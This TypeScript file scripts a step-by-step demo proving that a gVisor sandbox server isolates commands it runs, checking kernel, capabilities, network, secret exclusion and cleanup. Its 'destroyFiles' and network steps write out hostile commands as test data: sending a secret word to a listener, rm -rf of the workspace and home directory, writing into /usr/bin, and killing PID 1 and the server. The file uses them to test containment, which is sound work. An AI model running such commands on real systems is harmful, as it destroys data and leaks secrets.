/** The story of the demo, step by step. Each says what is done and what was found; a claim is told with the outcome of its check, never before it. */
import { execFile } from 'node:child_process';
import { existsSync, readdirSync, rmSync } from 'node:fs';
import { release } from 'node:os';
import { join } from 'node:path';
import { z } from 'zod';
import { ExecResult } from '../../tools/exec-result.ts';
import type { Listener } from './listener.ts';
import type { Narrator } from './narrator.ts';
import { allProcesses, differencesOf, fingerprint, groupsOf, mountsBelow, processesBelow, type Places } from './traces.ts';

/** What came back from a tool. */
export interface Answer {
  /** as a model sees it */
  readonly text: string;
  /** as a program sees it; sandbox_read has none */
  readonly fields: unknown;
}

export interface Stage {
  readonly tell: Narrator;
  /** the example project on this machine */
  readonly project: string;
  /** temporary directory of this demo, with the project in it */
  readonly place: string;
  /** a word that only this run knows: the secret in .env */
  readonly word: string;
  readonly listener: Listener;
  /** of the server */
  readonly pid: number;
  readonly places: Places;
  /** Calls a tool and shows the call and at most `lines` lines of its answer. Throws when it is refused. */
  call(tool: string, args: Readonly<Record<string, unknown>>, lines?: number): Promise<Answer>;
  /** ends the connection, and with it the server */
  leave(): Promise<void>;
  /** what the steps before have found out */
  sandboxId?: string;
  before?: { readonly files: ReadonlyMap<string, string>; readonly mounts: readonly string[] };
}

type Step = (stage: Stage) => Promise<void>;

const exec = async ({ call, sandboxId }: Stage, command: string, lines?: number): Promise<z.output<typeof ExecResult>> =>
  ExecResult.parse((await call('sandbox_exec', { sandbox_id: sandboxId, command }, lines)).fields);

const read = async ({ call, sandboxId }: Stage, path: string): Promise<string> => (await call('sandbox_read', { sandbox_id: sandboxId, path })).text;

const Created = z.object({
  sandbox_id: z.string(),
  runtime: z.string(),
  network: z.string(),
  context: z.object({ files: z.int(), skipped: z.array(z.object({ path: z.string(), reason: z.string() })) }).nullable(),
});

const createSandbox: Step = async (stage) => {
  const { tell, call, project, pid, places } = stage;
  tell.title('A sandbox with a copy of the project');
  stage.before = { files: fingerprint(project), mounts: mountsBelow(pid, places.mounts) };
  const { sandbox_id, runtime, network, context } = Created.parse((await call('sandbox_create', {})).fields);
  stage.sandboxId = sandbox_id;
  tell.claim(runtime === 'gvisor' && network === 'none', 'it runs in gVisor and has no network, says the server; the next steps prove it');
  const secret = context?.skipped.find(({ path }) => path === '.env');
  tell.claim(secret?.reason === 'secret' && (context?.files ?? 0) > 0, 'the project was copied, and .env was left out because it holds secrets');
  const [seen, own] = [mountsBelow(pid, places.mounts).length - stage.before.mounts.length, mountsBelow('self', places.mounts).length];
  tell.claim(seen > 0 && own === 0, `its ${seen} mounts exist in the server's own mount namespace only: this process sees ${own} of them`);
};

const proveKernel: Step = async (stage) => {
  const { tell, pid } = stage;
  tell.title('A kernel of its own');
  const { stdout: kernel } = await exec(stage, 'uname -r; id; grep CapEff /proc/self/status');
  const inside = kernel.split('\n', 1)[0] ?? '';
  tell.claim(inside.includes('gvisor') && inside !== release(), `programs inside talk to ${inside}, not to this machine's kernel ${release()}`);
  tell.claim(/^uid=1000\(agent\)/m.test(kernel) && /^CapEff:\s*0+$/m.test(kernel), 'they are an ordinary user there, without any capability');
  const sentry = processesBelow(pid).find(({ argv }) => argv[0]?.includes('runsc-sandbox'));
  tell.claim(sentry !== undefined, `that kernel is a process of this machine, started by the server: ${sentry?.argv[0]}, pid ${sentry?.pid}`);
  const marker = String(70_000 + Math.floor(Math.random() * 10_000));
  const { exit_code: lives } = await exec(stage, `sleep ${marker} & kill -0 $! && echo "sleep runs as process $! inside"`);
  const outside = allProcesses().filter(({ argv }) => argv.includes(marker));
  tell.claim(lives === 0 && outside.length === 0, `the programs inside are no processes of this machine: it knows ${outside.length} with that argument`);
};

const proveNoNetwork: Step = async (stage) => {
  const { tell, project, listener, word } = stage;
  const { host, port, heard } = listener;
  const control = `hello-${word.slice(-4)}`;
  tell.title('No network');
  const { stdout } = await exec(stage, "sed -n 's/^ *\\([^ ]*\\):.*/\\1/p' /proc/net/dev");
  tell.claim(stdout.trim() === 'lo', 'the only network device is a loopback of its own');
  tell.say(`A web server of this machine listens at ${host}:${port} for now. From here:`);
  tell.say(`$ sh send.sh ${host} ${port} ${control}`);
  const hasSender = (await runHere(join(project, 'send.sh'), [host, String(port), control])) !== NO_SENDER;
  if (!hasSender) return tell.say('This machine has neither curl nor python3 nor bash to send with: it cannot be tried.');
  tell.claim(heard.includes(control), 'it was heard, so the script works here');
  tell.say('The same from inside:');
  const { exit_code: code } = await exec(stage, `sh send.sh ${host} ${port} ${word}`);
  tell.claim(code !== 0 && code !== NO_SENDER && !heard.includes(word), 'inside it fails, and nothing was heard');
};

/** What send.sh ends with where no program can send. */
const NO_SENDER = 3;

const runHere = (script: string, args: readonly string[]): Promise<number> =>
  new Promise((resolve) => {
    execFile('sh', [script, ...args], (error) => resolve(error === null ? 0 : Number(error.code)));
  });

const repair: Step = async (stage) => {
  const { tell } = stage;
  tell.title('The tests inside, and a repair');
  const first = await exec(stage, 'sh test.sh');
  tell.claim(first.exit_code === 1 && first.stdout.includes('FAILED'), 'the tests ran, and a test that fails is a result with exit code 1');
  const second = await exec(stage, "sed -i 's/\\$1 + \\$2/$1 * $2/' prices.sh && sh test.sh");
  tell.claim(second.exit_code === 0, 'after the repair all tests pass');
};

const readReport: Step = async (stage) => {
  const { tell } = stage;
  tell.title('What the tests have written');
  const report = await read(stage, 'report/tests.txt');
  tell.claim(report.includes('4 passed, 0 failed'), 'the report can be read from outside');
};

const destroyFiles: Step = async (stage) => {
  const { tell, listener, word } = stage;
  tell.title('The worst that a bad dependency could do');
  const footprint = `/usr/bin/${word}`;
  await exec(
    stage,
    `sh send.sh ${listener.host} ${listener.port} ${word}; rm -rf /workspace/* /workspace/.[!.]* /home/agent/*; touch ${footprint}; kill -9 1 ${stage.pid}`,
  );
  const listing = await read(stage, '/workspace');
  tell.claim(listing.startsWith('directory, 0 entries'), 'its workspace is empty now; the sandbox itself lives on');
  tell.claim(!existsSync(footprint), "this machine's programs, which it sees read-only, have no new file among them");
  tell.claim(!listener.heard.includes(word), 'nothing was sent');
};

const lookAtProject: Step = async ({ tell, project, before }) => {
  const files = before?.files ?? new Map<string, string>();
  tell.title('The project on this machine');
  const differences = differencesOf(files, fingerprint(project));
  const found =
    differences.length === 0 ? `content, mode and time of all ${files.size} files and directories are as before` : `changed: ${differences.join(', ')}`;
  tell.say(`$ ls -A ${project}`);
  tell.answer(readdirSync(project).join('  '));
  tell.claim(files.size > 1 && differences.length === 0, `nobody has touched it: ${found}`);
};

const Listing = z.object({ sandboxes: z.array(z.unknown()), quota: z.object({ used: z.int() }) });

const destroySandbox: Step = async ({ tell, call, pid, places, sandboxId, before }) => {
  tell.title('The end of the sandbox');
  const [processes, groups] = [processesBelow(pid).length, groupsOf(places)];
  await call('sandbox_destroy', { sandbox_id: sandboxId });
  const left = processesBelow(pid).length;
  tell.claim(processes > 0 && left === 0, `its processes are gone: the server had ${processes} below it, now ${left}`);
  const mounts = mountsBelow(pid, places.mounts).filter((point) => !before?.mounts.includes(point));
  tell.claim(mounts.length === 0, `its mounts are gone: ${mounts.length} are left`);
  const busy = groups.filter((directory) => existsSync(directory)).length;
  if (groups.length > 0) tell.claim(busy === 0, `its control groups are gone: there were ${groups.length}, now ${busy}`);
  const { sandboxes, quota } = Listing.parse((await call('sandbox_list', {})).fields);
  tell.claim(sandboxes.length === 0 && quota.used === 0, 'the server knows no sandbox any more');
};

const lookAround: Step = async ({ tell, leave, pid, places, place }) => {
  tell.title('What is left');
  await leave();
  rmSync(place, { recursive: true, force: true });
  tell.claim(!allProcesses().some((one) => one.pid === pid), `the server (process ${pid}) has ended with its client`);
  tell.claim(!existsSync(places.state) && !existsSync(places.mounts), `its directory is gone: ${places.state}`);
  tell.claim(mountsBelow('self', places.state).length + mountsBelow('self', places.mounts).length === 0, 'no mount of it is left');
  tell.claim(!existsSync(place), `the project of this demo is gone: ${place}`);
};

export const STEPS: readonly Step[] = [createSandbox, proveKernel, proveNoNetwork, repair, readReport, destroyFiles, lookAtProject, destroySandbox, lookAround];
